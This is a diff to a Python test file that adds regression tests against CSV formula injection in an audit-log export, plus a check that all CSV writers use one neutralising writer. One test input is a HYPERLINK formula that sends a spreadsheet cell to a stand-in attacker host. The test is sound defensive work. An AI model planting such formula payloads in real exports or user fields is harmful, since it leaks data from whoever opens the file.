@@ -146,10 +146,46 @@ def test_admins_browse_filter_and_export(services):
         login(client, new_user(services, "admin"))
         client.app.state.es.indices.refresh(index=audit_alias(services))
         page = client.get(f"/audit?actor={analyst}")
-        assert page.status_code == 200 and f"<td>{analyst}</td>" in page.text
+        assert page.status_code == 200 and f"<td><bdi>{analyst}</bdi></td>" in page.text
         verified = client.get("/audit?verify=1")
         assert 'id="verify-result"' in verified.text and "intact" in verified.text
         export = client.get("/audit/export?fmt=jsonl")
         assert export.headers["content-disposition"].startswith("attachment")
         assert audit.verify_lines(io.StringIO(export.text)).ok
         assert client.get("/api/audit/verify").json()["ok"]
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
+
+
+def test_audit_csv_does_not_run_a_formula_typed_at_the_login_form(services):
+    """Issue 18.4: an anonymous login attempt's username must not become a live formula
+    in the admin's audit CSV."""
+    import csv
+
+    from tests.ui_support import login_token
+
+    with ui_client(services) as client:
+        client.post("/login", data={"username": FORMULA, "password": "whatever-wrong",
+                                    "csrf_token": login_token(client)})
+        login(client, new_user(services, "admin"))
+        rows = list(csv.reader(io.StringIO(client.get("/audit/export?fmt=csv").text)))
+    mine = [row for row in rows if FORMULA.lower() in "".join(row)]
+    assert mine, "the attempt is in the export"
+    for row in mine:
+        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row
+        assert "'" + FORMULA.lower() in row
+
+
+def test_every_csv_writer_goes_through_the_one_neutraliser():
+    """New CSV writers must use harmwatch.csvcells.SafeWriter, not the csv module's own."""
+    import re
+    from pathlib import Path
+
+    root = Path(__file__).resolve().parent.parent
+    writers = re.compile(r"csv\.(writer|DictWriter)\(")
+    offenders = [str(path.relative_to(root)) for folder in ("harmwatch", "review_ui",
+                                                            "classifiers", "consumers", "crawlers")
+                 for path in (root / folder).rglob("*.py")
+                 if writers.search(path.read_text()) and path.name != "csvcells.py"]
+    assert offenders == []
